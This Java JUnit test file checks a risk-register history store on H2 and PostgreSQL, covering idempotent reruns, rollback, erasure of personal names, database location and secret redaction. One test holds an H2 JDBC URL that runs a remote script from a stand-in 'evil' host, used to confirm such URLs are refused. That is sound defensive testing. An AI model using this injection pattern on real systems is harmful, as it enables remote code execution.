package io.portolan.history;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.portolan.analysis.Observation;
import io.portolan.analysis.Subject;
import io.portolan.settings.Settings;
import io.portolan.sheet.Past;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.Statement;
import java.time.YearMonth;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** What a history keeps, in a file and on a server. */
final class HistoryTest {
    private static final YearMonth OCTOBER = YearMonth.of(2026, 10);

    /** The databases that a history can lie in. */
    enum Kind {
        H2,
        POSTGRESQL
    }

    @TempDir
    Path folder;

    private Place place(Kind kind, String name) {
        return kind == Kind.POSTGRESQL ? Server.database(name) : new Place.InFile(folder.resolve(name));
    }

    private static Settings settings(String lines) throws IOException {
        return Settings.defaults().with(new StringReader(lines));
    }

    private static Entry entry(YearMonth period, String workbook, double p80, String... people) {
        List<Observation> observations = new ArrayList<>();
        observations.add(new Observation(
                workbook,
                "Risks",
                Subject.of("register", "", "Risks").with("p80", p80).with("currency", "€")));
        IntStream.range(0, people.length)
                .mapToObj(i -> Subject.of("risk", "R-" + i, "Supplier of " + people[i] + " fails")
                        .with("owner", people[i])
                        .with("emv", 10 * p80 + i))
                .forEach(risk -> observations.add(new Observation(workbook, "Risks", risk)));
        Past.Flaw flaw = new Past.Flaw(workbook, "owner-missing", "high", "Risks", "B4", "R-9");
        return new Entry(period, workbook, "ab".repeat(32), period.atEndOfMonth(), observations, List.of(flaw));
    }

    private static List<Entry> recorded(Place place, Settings settings, List<List<Entry>> runs) throws IOException {
        try (History history = History.open(place, settings)) {
            for (List<Entry> run : runs) {
                history.record(run);
            }
        }
        try (History again = History.open(place, settings)) {
            return again.entries();
        }
    }

    @ParameterizedTest
    @EnumSource
    void what_was_recorded_comes_back_as_it_was(Kind kind) throws IOException {
        Entry entry = entry(OCTOBER, "risks.xlsx", 12.345678901234567, "Ann Lee", "Bö\u0142\uD83D\uDE80");
        assertThat(recorded(place(kind, "same"), Settings.defaults(), List.of(List.of(entry))))
                .containsExactly(entry);
    }

    @ParameterizedTest
    @EnumSource
    void a_period_that_is_run_again_replaces_its_workbooks_only(Kind kind) throws IOException {
        Entry other = entry(OCTOBER, "other.xlsx", 5, "Bob");
        Entry earlier = entry(OCTOBER.minusMonths(1), "risks.xlsx", 4, "Ann");
        Entry corrected = entry(OCTOBER, "risks.xlsx", 3);
        List<List<Entry>> runs =
                List.of(List.of(entry(OCTOBER, "risks.xlsx", 1, "Ann"), other), List.of(earlier), List.of(corrected));
        assertThat(recorded(place(kind, "replaced"), Settings.defaults(), runs))
                .containsExactly(earlier, other, corrected);
    }

    @ParameterizedTest
    @EnumSource
    void any_order_of_runs_and_runs_again_leaves_the_same(Kind kind) throws IOException {
        List<Entry> months = IntStream.range(0, 8)
                .mapToObj(i -> entry(OCTOBER.minusMonths(i / 2), i % 2 == 0 ? "a.xlsx" : "b.xlsx", i, "Ann", "Bob"))
                .toList();
        Settings settings = settings("history.months = 3");
        List<Entry> inOrder = recorded(place(kind, "in_order"), settings, List.of(months));
        assertThat(inOrder).hasSize(6);
        for (int seed = 0; seed < 5; seed++) {
            List<Entry> shuffled = new ArrayList<>(months);
            shuffled.addAll(months);
            Collections.shuffle(shuffled, new Random(seed));
            List<List<Entry>> runs = shuffled.stream().map(List::of).toList();
            assertThat(recorded(place(kind, "shuffled" + seed), settings, runs)).isEqualTo(inOrder);
        }
    }

    @ParameterizedTest
    @EnumSource
    void a_run_that_fails_half_way_leaves_nothing(Kind kind) throws IOException {
        Place place = place(kind, "half");
        Entry good = entry(OCTOBER, "a.xlsx", 1);
        Entry tooLong = entry(OCTOBER, "b".repeat(2000), 1);
        try (History history = History.open(place, Settings.defaults())) {
            assertThatThrownBy(() -> history.record(List.of(good, tooLong))).isInstanceOf(HistoryUnavailable.class);
            assertThat(history.entries()).isEmpty();
            history.record(List.of(good));
            assertThat(history.entries()).containsExactly(good);
        }
    }

    @ParameterizedTest
    @EnumSource
    void a_month_can_be_asked_for_its_subjects_and_its_findings(Kind kind) throws IOException {
        try (History history = History.open(place(kind, "asked"), Settings.defaults())) {
            Entry entry = entry(OCTOBER, "risks.xlsx", 7, "Ann");
            history.record(List.of(entry, entry(OCTOBER.minusMonths(2), "risks.xlsx", 1)));
            assertThat(history.arrivals())
                    .containsExactly(
                            new Past.Arrival(OCTOBER.minusMonths(2), "risks.xlsx"),
                            new Past.Arrival(OCTOBER, "risks.xlsx"));
            assertThat(history.observations("risk", OCTOBER))
                    .containsExactly(entry.observations().get(1));
            assertThat(history.observations("risk", OCTOBER.minusMonths(1))).isEmpty();
            assertThat(history.flaws(OCTOBER)).isEqualTo(entry.flaws());
        }
    }

    @ParameterizedTest
    @EnumSource
    void a_person_is_erased_from_every_text(Kind kind) throws IOException {
        Place place = place(kind, "erased");
        try (History history = History.open(place, Settings.defaults())) {
            history.record(List.of(
                    entry(OCTOBER, "risks.xlsx", 1, "Jane Canary", "CANARY,  Jane", "Janet Canary"),
                    entry(OCTOBER.minusMonths(1), "of jane canary.xlsx", 1)));
            assertThat(history.forget("jane  canary")).isEqualTo(5);
        }
        try (History history = History.open(place, Settings.defaults())) {
            assertThat(history.entries().toString())
                    .contains("Janet Canary", "of ***.xlsx", "Supplier of *** fails")
                    .doesNotContainIgnoringCase("jane canary")
                    .doesNotContain("CANARY,");
        }
    }

    @Test
    void no_byte_of_a_person_stays_in_the_file() throws IOException {
        Place.InFile place = new Place.InFile(folder.resolve("erased"));
        try (History history = History.open(place, Settings.defaults())) {
            history.record(List.of(entry(OCTOBER, "risks.xlsx", 1, "Jane Canary", "Canary, Jane", "Janet Canary")));
            assertThat(history.forget("jane  canary")).isEqualTo(4);
        }
        String bytes = new String(Files.readAllBytes(place.file()), StandardCharsets.ISO_8859_1);
        assertThat(bytes).doesNotContainIgnoringCase("Jane Canary").doesNotContainIgnoringCase("Canary, Jane");
    }

    @Test
    void people_can_be_left_out_from_the_start() throws IOException {
        Entry entry = entry(OCTOBER, "risks.xlsx", 1, "Jane Canary");
        List<Entry> kept = recorded(
                new Place.InFile(folder.resolve("h")), settings("history.people = off"), List.of(List.of(entry)));
        assertThat(kept.toString()).doesNotContain("Canary").contains("Supplier of *** fails");
        assertThat(kept.get(0).observations()).hasSameSizeAs(entry.observations());
    }

    @Test
    void the_environment_names_the_server_before_the_settings_and_the_file() throws IOException {
        Settings settings = settings("history.url = jdbc:postgresql://one/pmo");
        Map<String, String> environment =
                Map.of(Place.URL, "jdbc:postgresql://two/pmo?ssl=true", Place.USER, "ann", Place.PASSWORD, "s3cret");
        Optional<Path> file = Optional.of(folder.resolve("history"));
        assertThat(Place.of(settings, environment, file))
                .contains(new Place.OnServer("jdbc:postgresql://two/pmo?ssl=true", "ann", "s3cret"));
        assertThat(Place.of(settings, Map.of(), file))
                .contains(new Place.OnServer("jdbc:postgresql://one/pmo", "", ""));
        assertThat(Place.of(Settings.defaults(), Map.of(), file)).contains(new Place.InFile(folder.resolve("history")));
        assertThat(Place.of(Settings.defaults(), Map.of(), Optional.empty())).isEmpty();
    }

    @Test
    void a_secret_is_never_said() {
        Map<String, String> secret =
                Map.of(Place.URL, "jdbc:postgresql://nowhere.invalid:1/pmo?connectTimeout=1", Place.PASSWORD, "s3cret");
        Place place = Place.of(Settings.defaults(), secret, Optional.empty()).orElseThrow();
        assertThat(place.toString()).doesNotContain("s3cret");
        assertThatThrownBy(() -> History.open(place, Settings.defaults()))
                .isInstanceOf(HistoryUnavailable.class)
                .hasMessageContaining("jdbc:postgresql://nowhere.invalid:1/pmo cannot be opened")
                .hasMessageNotContaining("s3cret");
        assertThatThrownBy(() -> Place.of(
                        Settings.defaults(),
                        Map.of(Place.URL, "jdbc:postgresql://h/pmo?user=a&password=s3cret"),
                        Optional.empty()))
                .hasMessageContaining(Place.PASSWORD)
                .hasMessageNotContaining("s3cret");
        assertThatThrownBy(() -> Place.of(
                        Settings.defaults(),
                        Map.of(Place.URL, "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'"),
                        Optional.empty()))
                .hasMessageContaining("jdbc:postgresql://");
    }

    @Test
    void a_file_that_is_damaged_is_refused_with_advice() throws IOException {
        Place.InFile place = new Place.InFile(folder.resolve("bad"));
        Files.writeString(place.file(), "not a database ".repeat(1000));
        assertThatThrownBy(() -> History.open(place, Settings.defaults()))
                .isInstanceOf(HistoryUnavailable.class)
                .hasMessageContaining("damaged");
    }

    @ParameterizedTest
    @EnumSource
    void tables_of_a_newer_portolan_are_refused_and_stay(Kind kind) throws Exception {
        Place place = place(kind, "newer");
        History.open(place, Settings.defaults()).close();
        try (Connection connection = Database.open(place);
                Statement statement = connection.createStatement()) {
            statement.execute(
                    "INSERT INTO \"portolan_schema\" (\"installed_rank\", \"version\", \"description\", \"type\","
                            + " \"script\", \"checksum\", \"installed_by\", \"execution_time\", \"success\")"
                            + " VALUES (99, '99', 'later', 'SQL', 'V99__later.sql', 1, 'x', 1, TRUE)");
        }
        for (int attempt = 0; attempt < 2; attempt++) {
            assertThatThrownBy(() -> History.open(place, Settings.defaults()))
                    .isInstanceOf(HistoryUnavailable.class)
                    .hasMessageContaining("of another version of Portolan");
        }
    }
}
